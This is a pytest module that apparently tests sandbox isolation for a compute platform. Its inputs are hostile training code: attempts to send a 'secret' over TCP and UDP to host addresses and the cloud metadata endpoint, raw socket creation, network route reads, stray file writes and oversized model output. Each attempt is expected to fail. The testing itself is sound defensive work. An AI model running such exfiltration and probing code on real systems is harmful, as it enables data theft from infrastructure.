"""Cases 15, 16 and 18 to 20: getting out what was read."""

from __future__ import annotations

import pytest

from morpheo.models import ArtifactKind, Cause, Job, LearnSpec, StepName
from tests.hostile.rig import MODEL_BYTES, MODEL_FILES, HostileRig, find_canaries

pytestmark = pytest.mark.docker


def test_15_16_nothing_is_reached(rig: HostileRig) -> None:
    """Neither addresses of this machine, nor metadata, nor names; the containers have no network at all."""
    addresses = [*rig.sink.addresses, "169.254.169.254", "172.17.0.1", "10.0.0.1", "::1", "fe80::1"]
    spec = rig.learn(
        train=f"""
for address in {addresses!r}:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    def tcp():
        with socket.socket(family) as peer:
            peer.settimeout(2)
            peer.connect((address, {rig.sink.port}))
    def udp():
        with socket.socket(family, socket.SOCK_DGRAM) as peer:
            peer.sendto(b"secret", (address, {rig.sink.port}))
    attempt("tcp " + address, tcp)
    attempt("udp " + address, udp)
attempt("name", socket.getaddrinfo, "636f6666.sink", 80)
attempt("raw", socket.socket, socket.AF_INET, socket.SOCK_RAW, 1)
attempt("packet", socket.socket, socket.AF_PACKET, socket.SOCK_RAW)
attempt("interfaces", os.listdir, "/sys/class/net")
attempt("routes", lambda: open("/proc/net/route").read().splitlines()[1:])
"""
    )
    rig.succeeded(spec)
    found = rig.attempts(spec)
    assert found["interfaces"]["found"] == ["lo"]
    assert found["routes"]["found"] == []
    assert "name resolution" in found["name"]["error"]
    assert (found["raw"]["error"], found["packet"]["error"]) == ("EPERM", "EPERM")
    for address in addresses:
        # Its own loopback interface is there, with nobody on it.
        own = address.startswith("127.") or address == "::1"
        allowed = {"ECONNREFUSED", "EADDRNOTAVAIL"} if own else {"ENETUNREACH", "EINVAL", "EADDRNOTAVAIL"}
        assert found[f"tcp {address}"]["error"] in allowed, found[f"tcp {address}"]
        assert own or found[f"udp {address}"]["error"] in allowed, found[f"udp {address}"]


def test_18_what_was_not_asked_for_is_refused_and_nothing_is_kept(rig: HostileRig) -> None:
    before = rig.blobs()
    attacks = {
        "file": "open('/data/test/pred/extra', 'w').write('x')",
        "folder": "os.makedirs('/data/test/pred/sub/deeper')",
        "other case": "name = files('/data/test')[0]\nopen('/data/test/pred/A' + name.upper(), 'w').write('x')",
    }
    for job in rig.all_failed(attacks, Cause.BAD_OUTPUT).values():
        assert "unexpected file" in job.failure.message  # type: ignore[union-attr]
        _no_model(rig, job)
    assert not {path for path in rig.blobs() - before if "model" in path.parts or "prediction" in path.parts}


def test_19_a_model_that_is_too_large_is_not_kept(rig: HostileRig) -> None:
    attacks = {
        "bytes": f"open('/data/model/big', 'wb').write(b'x' * {MODEL_BYTES + 1})",
        "files": f"[open('/data/model/%d' % n, 'w').close() for n in range({MODEL_FILES + 1})]",
    }
    for job in rig.all_failed(attacks, Cause.OUTPUT_LIMIT).values():
        _no_model(rig, job)


def _no_model(rig: HostileRig, job: Job) -> None:
    assert isinstance(job.spec, LearnSpec)
    assert job.spec.model_end not in {item.id for item in rig.storage.list(ArtifactKind.MODEL)}


def test_20_what_a_program_prints_is_in_the_custodians_log_alone(rig: HostileRig) -> None:
    spec = rig.learn(train=f"print('{rig.canaries.train}')")
    job = rig.succeeded(spec)
    assert rig.canaries.train in rig.log(spec)
    answer = rig.compute._http.request("GET", f"/jobs/{spec.id}").content
    assert not find_canaries(answer, [rig.canaries.train])
    assert StepName.TRAIN in {step.name for step in job.attempts[0].steps}
